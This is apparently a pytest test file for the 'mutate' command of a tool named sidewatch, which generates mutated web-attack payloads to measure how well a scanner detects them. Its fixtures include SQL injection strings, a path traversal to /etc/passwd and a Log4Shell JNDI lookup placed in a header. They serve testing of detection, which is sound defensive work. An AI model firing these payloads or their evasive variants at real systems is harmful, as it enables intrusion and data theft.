"""The command `sidewatch mutate`."""

import base64
import json

import pytest

ATTACKS = """
class = "sqli"

[[attack]]
name = "one"
payload = "pear' OR 4=4 -- "
context = "'"
language = "mysql"
place = ["query", "json"]

[[attack]]
payload = "pear' UNION SELECT a, b FROM c -- "
parameter = "item"
"""


def records(done) -> list[dict]:
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_canonical_attacks_are_written_as_eval_reads_them(run, tmp_path):
    done = run("mutate", "--canonical", "--class", "xss", "--mutation", "html-case", "--originals", status=0)
    made = records(done)
    assert {r["class"] for r in made} == {"xss"} and {r["label"] for r in made} == {"malicious"}
    assert len({r["id"] for r in made}) == len(made)
    mutated = [r for r in made if r["mutations"]]
    assert mutated and all(r["id"] == f"{r['parent']}~html-case" for r in mutated)
    (tmp_path / "made.jsonl").write_bytes(done.stdout)
    table = run("eval", tmp_path / "made.jsonl", status=0).stdout.decode()
    assert "mutate" in table and f"{len(made)}" in table


def test_a_toml_document_of_payloads(run, write):
    made = records(run("mutate", write("a.toml", ATTACKS), "--mutation", "sql-end-hash", "--originals", status=0))
    # The second attack names no language: what holds in MySQL only is not for it.
    assert [(r["id"], r["payload"]) for r in made] == [
        ("one", "pear' OR 4=4 -- "),
        ("one~sql-end-hash", "pear' OR 4=4#"),
        ("attack-2", "pear' UNION SELECT a, b FROM c -- "),
    ]
    assert made[2]["target"] == "/catalogue?item=pear'%20UNION%20SELECT%20a,%20b%20FROM%20c%20--%20"


def test_json_lines_of_payloads_and_of_requests_from_the_standard_input(run):
    lines = [
        {"class": "ptrav", "payload": "../../etc/passwd", "language": "unix"},
        {"id": "r-1", "label": "malicious", "class": "log4shell", "place": "header:X-Api", "payload": "${jndi:ldap://h/a}",
         "method": "GET", "target": "/", "headers": [["X-Api", "${jndi:ldap://h/a}"]]},
    ]  # fmt: skip
    done = run("mutate", "-", "--originals", stdin="".join(f"{json.dumps(x)}\n" for x in lines).encode(), status=0)
    made = records(done)
    assert [r["id"] for r in made if not r["mutations"]] == ["line-1", "r-1"]
    own = next(r for r in made if r["id"] == "r-1")
    assert (
        own["class"] == "rce" and own["place"] == "header:X-Api" and ["X-Api", "${jndi:ldap://h/a}"] in own["headers"]
    )
    assert any(r["mutations"] == ["path-dots"] for r in made)
    # Nobody said that the lookup is one of Log4j's: only what holds for every language of the class.
    assert not any(name.startswith("log4j-") for r in made for name in r["mutations"])


def test_a_pipe_of_requests_is_scanned_and_judged(run, write):
    made = run("mutate", write("a.toml", ATTACKS), "--mutation", "sql-tabs", status=0).stdout
    # A shell's pipe cannot seek: neither command may ask it to.
    assert len(run("scan", "/dev/stdin", "--format", "jsonl", stdin=made, status=1).stdout.splitlines()) == 2
    assert "mutate" in run("eval", "/dev/stdin", stdin=made, status=0).stdout.decode()


def test_places(run, write):
    path = write("a.toml", ATTACKS)
    for place in ("query", "form", "json", "multipart", "cookie", "header", "path"):
        # A value of a header ends with no blank: the mutation drops the one of the payload.
        (made,) = records(run("mutate", path, "--place", place, "--mutation", "sql-end-hash", "--limit", "1", status=0))
        assert made["place"].split(":")[0] == place
    (made,) = records(run("mutate", path, "--place", "json", "--mutation", "sql-case", "--limit", "1", status=0))
    assert json.loads(base64.b64decode(made["body_b64"]))["q"].lower() == "pear' or 4=4 -- "


def test_chains_are_deterministic(run, write):
    path = write("a.toml", ATTACKS)
    options = ("mutate", path, "--depth", "3", "--samples", "5", "--seed")
    first, again, other = (run(*options, seed, status=0).stdout for seed in ("7", "7", "8"))
    assert first == again != other
    assert all(len(json.loads(line)["mutations"]) == 3 for line in first.splitlines())


def test_limit_and_output(run, tmp_path):
    run("mutate", "--canonical", "--limit", "9", "-o", tmp_path / "out.jsonl", status=0)
    assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 9


def test_the_matrix_and_what_it_misses(run, tmp_path):
    attacks = [
        {"class": "sqli", "payload": "pear' UNION SELECT a, b FROM c -- "},
        {"class": "sqli", "payload": "pear and plum", "context": ""},
    ]
    stdin = "".join(f"{json.dumps(x)}\n" for x in attacks).encode()
    done = run(
        "mutate", "-", "--matrix", "--misses", tmp_path / "misses", "--mutation", "sql-tabs", stdin=stdin, status=0
    )
    assert "2 requests, 1 found: **50.00 %**" in done.stdout.decode()
    assert "**1 of 2**" in done.stdout.decode()
    (miss,) = [json.loads(line) for line in (tmp_path / "misses").read_text().splitlines()]
    assert miss["payload"] == "pear\tand\tplum"


def test_the_list_tells_why(run):
    listed = run("mutate", "--list", "--class", "ldapi", status=0).stdout.decode()
    assert "ldap-nul-end" in listed and "sql-case" not in listed


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ((), "give files of attacks"),
        (("--canonical", "x"), "give files of attacks"),
        (("--canonical", "--class", "sqlj"), "'sqlj' is no class"),
        (("--canonical", "--mutation", "sql-kase"), "'sql-kase' is no mutation; there are sql-case"),
        (("--canonical", "--misses", "x"), "--misses goes with --matrix"),
        (("--canonical", "--depth", "0"), "0"),
        (("--canonical", "--place", "roof"), "'roof'"),
    ],
)
def test_wrong_usage(run, arguments, message):
    assert message in run("mutate", *arguments, status=2).stderr.decode()


@pytest.mark.parametrize(
    ("content", "status", "message"),
    [
        ('{"class":"sqli","payload":"a\'or 1=1--"}\n{"class":"roof","payload":"x"}\n', 3, "line 2 is no attack: its class is 'roof'"),
        ('{"class":"sqli"}\n', 2, "line 1 is no attack: the field 'payload' is missing"),
        ('{"class":"sqli","payload":"x","palce":"y"}\n', 2, "the field 'palce' is not known"),
        ('{"label":"benign","payload":"x","method":"GET","target":"/"}\n', 2, "its label is benign"),
        ('{"label":"malicious","class":"sqli","method":"GET","target":"/"}\n', 2, "the field 'payload' is missing"),
        ('{"class":"sqli",\n', 2, "line 1 is no attack: Expecting"),
        ("[[attack]]\npayload = 3\n", 2, "attack 1: the field 'payload' is missing or no text"),
        ("a = [\n", 2, "neither JSON lines nor a TOML document"),
        ("x = 1\n", 2, "it has no [[attack]] table"),
    ],
)  # fmt: skip
def test_what_cannot_be_read_is_told_with_its_place(run, write, content, status, message):
    assert message in run("mutate", write("a", content), status=status).stderr.decode()


def test_a_file_that_is_not_there(run):
    assert "nowhere" in run("mutate", "nowhere", status=2).stderr.decode()
